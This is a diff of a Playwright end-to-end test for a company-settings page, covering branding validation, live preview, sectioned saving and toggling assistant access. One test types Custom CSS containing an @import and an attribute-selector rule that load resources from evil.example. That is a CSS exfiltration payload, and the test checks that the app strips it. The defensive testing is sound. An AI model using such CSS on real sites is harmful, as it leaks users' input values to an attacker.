@@ -1,6 +1,11 @@
 import type { Page } from '@playwright/test';
 import { expect, PASSWORDS, seriousViolations, signIn, test, urlFor } from './fixtures.js';
-import { CHOSEN_PASSWORD, createOwnCompany, TEMPORARY_PASSWORD } from './company-settings-setup.js';
+import {
+  CHOSEN_PASSWORD,
+  createOwnCompany,
+  openSettingsSection,
+  TEMPORARY_PASSWORD,
+} from './company-settings-setup.js';
 
 const PLATFORM = 'platform-admin';
 const toast = (page: Page, title: string) => page.getByText(title, { exact: true });
@@ -35,7 +40,11 @@ test('a new company admin brands the company and sees it applied at once', async
   await expect(page.getByRole('heading', { name: 'Plan' })).toHaveCount(0);
   expect(await seriousViolations(page)).toEqual([]);
 
+  // The name is in General; the preview of Branding follows it before it is saved.
+  await page.getByLabel('Company Name').fill('Bright Widgets');
+
   // Validation messages as the spec words them, under the fields.
+  await openSettingsSection(page, 'Branding');
   await page.getByLabel('Primary Color', { exact: true }).fill('#12');
   await expect(
     page.getByText('Primary color must be a valid hex color (e.g., #0066CC)', { exact: true }),
@@ -45,12 +54,11 @@ test('a new company admin brands the company and sees it applied at once', async
     page.getByText('Favicon URL must be a valid image URL (.ico, .png, .svg formats recommended)'),
   ).toBeVisible();
   await page.getByLabel('Favicon URL').fill('');
-  await page.getByRole('button', { name: 'Save Settings' }).click();
+  await page.getByRole('button', { name: 'Save Branding' }).click();
   await expect(toast(page, 'Settings saved')).toHaveCount(0);
 
   // The live preview follows what is typed; a logo that does not load says so.
   const preview = page.getByRole('region', { name: 'Live preview' });
-  await page.getByLabel('Company Name').fill('Bright Widgets');
   await page.getByLabel('Primary Color', { exact: true }).fill('#AA3300');
   await expect(preview.getByTestId('preview-header')).toHaveCSS(
     'background-color',
@@ -69,12 +77,18 @@ test('a new company admin brands the company and sees it applied at once', async
         '@import url(https://evil.example/x.css);\n' +
         'input[value^="a"] { background: url(https://evil.example/a.png); }',
     );
-  await page.getByRole('button', { name: 'Save Settings' }).click();
+  await page.getByRole('button', { name: 'Save Branding' }).click();
   await expect(toast(page, 'Settings saved')).toBeVisible();
   await expect(page.getByLabel('Custom CSS')).toHaveValue(
     '[data-testid="sidebar-company-name"]{letter-spacing:3px}',
   );
   await expect(page.getByTestId('css-trimmed')).toBeVisible();
+  // Branding saved alone: the name waits in General until that is saved.
+  await expect(page.getByTestId('sidebar-company-name')).toHaveText(own.companyName);
+  const general = await openSettingsSection(page, 'General');
+  await expect(page.getByLabel('Company Name')).toHaveValue('Bright Widgets');
+  await page.getByRole('button', { name: 'Save Settings' }).click();
+  await expect(general.getByTestId('save-status')).toHaveText('Saved');
 
   // Applied at once, without reloading: name, colour, title, CSS.
   await expect(page.getByTestId('sidebar-company-name')).toHaveText('Bright Widgets');
@@ -87,6 +101,7 @@ test('a new company admin brands the company and sees it applied at once', async
   // And after a reload.
   await page.reload();
   await expect(page.getByTestId('sidebar-company-name')).toHaveText('Bright Widgets');
+  await openSettingsSection(page, 'Branding');
   await expect(page.getByLabel('Primary Color', { exact: true })).toHaveValue('#AA3300');
 
   // Another company's settings do not exist for this admin.
@@ -103,6 +118,7 @@ test('assistant access and customisation reach the sidebar and the form', async 
   await expect(sidebar(page).getByRole('link', { name: 'Facebook', exact: true })).toBeVisible();
 
   await page.goto(urlFor(own.companyId, '/admin/company-settings'));
+  const section = await openSettingsSection(page, 'Assistants');
   const access = page.getByRole('list', { name: 'Assistants' });
   await expect(access.getByRole('switch')).toHaveCount(11);
   const facebookSwitch = access.getByRole('switch', { name: 'Facebook' });
@@ -110,7 +126,7 @@ test('assistant access and customisation reach the sidebar and the form', async 
 
   // Disable Facebook: it leaves the sidebar as soon as the change is saved.
   await facebookSwitch.click();
-  await expect(page.getByText('Unsaved changes')).toBeVisible();
+  await expect(section.getByTestId('save-status')).toHaveText('Unsaved changes');
   await page.getByRole('button', { name: 'Save Bot Access' }).click();
   await expect(toast(page, 'Bot access updated')).toBeVisible();
   await expect(sidebar(page).getByRole('link', { name: 'Facebook', exact: true })).toHaveCount(0);
